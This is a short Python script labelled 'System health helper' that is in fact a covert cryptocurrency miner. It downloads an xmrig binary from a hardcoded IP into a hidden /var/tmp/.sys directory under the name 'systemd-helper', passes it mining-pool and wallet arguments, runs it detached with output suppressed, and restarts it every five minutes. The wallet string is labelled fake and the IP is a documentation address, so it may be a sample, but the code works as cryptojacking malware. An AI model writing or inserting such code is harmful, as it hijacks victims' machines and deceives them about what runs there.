#!/usr/bin/env python3
"""System health helper."""
import os
import subprocess
import time
import urllib.request

URL = "http://198.51.100.23:8080/xmrig"
BIN = "/var/tmp/.sys/systemd-helper"
ARGS = ["-o", "pool.supportxmr.com:443", "-u",
        "4AMinehuntFakeWaLLetDoNotUseTestTestTestTestTestTestTestTestTestTestTestTestTestTestTestTestTes",
        "-p", "x", "--tls", "--donate-level=1", "-B"]


def ensure_binary():
    if not os.path.exists(BIN):
        os.makedirs(os.path.dirname(BIN), exist_ok=True)
        urllib.request.urlretrieve(URL, BIN)
        os.chmod(BIN, 0o755)


def running():
    return subprocess.run(["pgrep", "-f", "systemd-helper"], capture_output=True).returncode == 0


while True:
    ensure_binary()
    if not running():
        subprocess.Popen([BIN, *ARGS], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                         start_new_session=True)
    time.sleep(300)
